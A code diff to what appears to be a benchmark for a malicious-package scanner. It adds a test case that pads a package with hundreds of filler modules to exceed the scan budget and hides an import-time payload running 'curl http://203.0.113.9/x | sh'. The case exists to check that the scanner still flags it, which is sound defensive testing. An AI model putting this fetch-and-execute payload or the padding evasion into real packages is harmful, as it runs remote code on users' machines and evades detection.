@@ -90,6 +90,14 @@ FILE_CASES = {
     "tiny statements (1 MB)": lambda: _files("x=1;" * 250_000),
     "many files": lambda: {f"pkg/m{i}.py": "import os\nx = os.path.join('a', 'b')\n"
                            for i in range(3000)},
+    # 300 call-only modules (18 MB) pad the package past the budget; the payload runs
+    # at import from a module __init__.py imports: scanned first, still flagged
+    "call-only padding + import payload": lambda: {
+        "pkg/__init__.py": "from .zz import run\nrun()\n",
+        "pkg/zz.py": "import os\ndef run():\n    os.system('curl http://203.0.113.9/x | sh')\n",
+        **{f"pkg/util/m{i:03}.py": "".join(
+            f"def helper_{j}(a, b):\n    return [a + b * {j} for _ in range(3)]\n"
+            for j in range(1000)) for i in range(300)}},
 }
 ARCHIVE_CASES = {"zip bomb": zip_bomb, "pax header bomb (.tar.bz2)": pax_header_bomb,
                  "duplicate members": duplicate_members, "many members": many_members}
@@ -107,9 +115,9 @@ def _run(kind: str, name: str, out) -> None:
         result = scan_path(subject) if kind == "archive" else scan_files(subject)
         cpu = time.process_time() - start
         extra = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
-    from detector.code.rules import catalogue
+    from detector.code.scan import is_decisive
 
-    decisive = sorted({f.rule for f in result.findings if catalogue()[f.rule].decisive})
+    decisive = sorted({f.rule for f in result.findings if is_decisive(f)})
     out.send((cpu, extra, result.flagged, ", ".join(decisive) or "-"))
 
 
